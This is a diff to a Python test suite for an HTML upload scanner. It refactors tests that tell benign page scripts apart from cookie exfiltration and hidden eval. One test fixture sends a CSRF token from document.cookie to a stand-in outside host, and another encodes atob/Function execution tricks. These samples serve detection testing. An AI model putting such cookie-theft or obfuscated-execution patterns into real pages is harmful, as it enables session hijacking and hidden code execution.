@@ -5,6 +5,7 @@ from __future__ import annotations
 import io
 from collections.abc import Callable
 from datetime import UTC, datetime
+from typing import Any
 
 import pytest
 from hypothesis import given, settings
@@ -177,18 +178,24 @@ def _script_confidence(page: bytes, name: str = "page.html") -> float | None:
     return found[0] if found else None
 
 
+def _reviewed_script(page: bytes, name: str) -> dict[str, Any]:
+    """Scan ``page``: its one finding must be a script-tag review; return its evidence."""
+    result, findings = scan(page, name)
+    (f,) = findings
+    assert f.confidence == POLICY.upload_scanning.scripts.script_tag_confidence
+    assert verdict(result.status, findings, POLICY) is Verdict.review
+    return f.evidence
+
+
 def test_a_pages_own_controls_and_void_links_are_a_review_not_a_threat() -> None:
     page = (
         b"<html><body><button onclick=\"document.getElementById('m').classList.toggle('open')\">Menu</button>"
         b'<form onsubmit="return check()"><input onchange="save(this)"></form>'
         b'<a href="javascript:void(0)">Cart</a><a href="javascript:;">x</a></body></html>'
     )
-    result, findings = scan(page, "index.html")
-    (f,) = findings
-    assert f.confidence == POLICY.upload_scanning.scripts.script_tag_confidence
-    assert f.evidence["interaction_handlers"] == {"onclick": 1, "onsubmit": 1, "onchange": 1}
-    assert f.evidence["javascript_urls"] == 0
-    assert verdict(result.status, findings, POLICY) is Verdict.review
+    evidence = _reviewed_script(page, "index.html")
+    assert evidence["interaction_handlers"] == {"onclick": 1, "onsubmit": 1, "onchange": 1}
+    assert evidence["javascript_urls"] == 0
 
 
 @pytest.mark.parametrize(
@@ -225,12 +232,9 @@ CONSENT_BANNER = (
 
 
 def test_a_consent_banner_parsing_and_writing_its_cookie_beside_requests_is_no_exfiltration() -> None:
-    result, findings = scan(CONSENT_BANNER, "index.html")
-    (f,) = findings
-    assert f.confidence == POLICY.upload_scanning.scripts.script_tag_confidence
-    assert f.evidence["exfiltration_markers"]["document.cookie:kept"] == 2
-    assert "document.cookie" not in f.evidence["exfiltration_markers"]
-    assert verdict(result.status, findings, POLICY) is Verdict.review
+    markers = _reviewed_script(CONSENT_BANNER, "index.html")["exfiltration_markers"]
+    assert markers["document.cookie:kept"] == 2
+    assert "document.cookie" not in markers
 
 
 def test_a_csrf_token_read_from_the_cookie_and_sent_to_the_pages_own_path_is_no_theft() -> None:
@@ -238,10 +242,8 @@ def test_a_csrf_token_read_from_the_cookie_and_sent_to_the_pages_own_path_is_no_
         b"fetch('/api/orders',{method:'POST',headers:{'X-CSRF-Token':"
         b"document.cookie.match(/csrftoken=([^;]+)/)[1]},body:JSON.stringify(order)})"
     )
-    result, findings = scan(b"<html><body><script>" + script + b"</script></body></html>", "cart.html")
-    (f,) = findings
-    assert f.evidence["exfiltration_markers"] == {"fetch": 1, "document.cookie:to-own-paths": 1}
-    assert verdict(result.status, findings, POLICY) is Verdict.review
+    evidence = _reviewed_script(b"<html><body><script>" + script + b"</script></body></html>", "cart.html")
+    assert evidence["exfiltration_markers"] == {"fetch": 1, "document.cookie:to-own-paths": 1}
     stolen = script.replace(b"'/api/orders'", b"'https://x.example/orders'")  # the same, to another host
     assert _script_confidence(b"<html><body><script>" + stolen + b"</script></body></html>") == (
         POLICY.upload_scanning.scripts.exfiltration_confidence
@@ -271,11 +273,7 @@ def test_a_page_using_atob_and_eval_apart_runs_nothing_hidden_but_running_what_a
         b"<script>var x=new XMLHttpRequest();x.onload=function(){render(eval('('+x.responseText+')'))};"
         b"x.open('GET','/api/menu');x.send()</script></body></html>"
     )
-    result, findings = scan(apart, "legacy.html")
-    (f,) = findings
-    assert f.confidence == scripts.script_tag_confidence
-    assert {"eval", "atob"} <= set(f.evidence["exfiltration_markers"])
-    assert verdict(result.status, findings, POLICY) is Verdict.review
+    assert {"eval", "atob"} <= set(_reviewed_script(apart, "legacy.html")["exfiltration_markers"])
     for hidden in (
         "var p = window.atob('YWxlcnQoMSk=');\nsetTimeout(p, 10)",
         "Function(atob('YWxlcnQoMSk='))()",
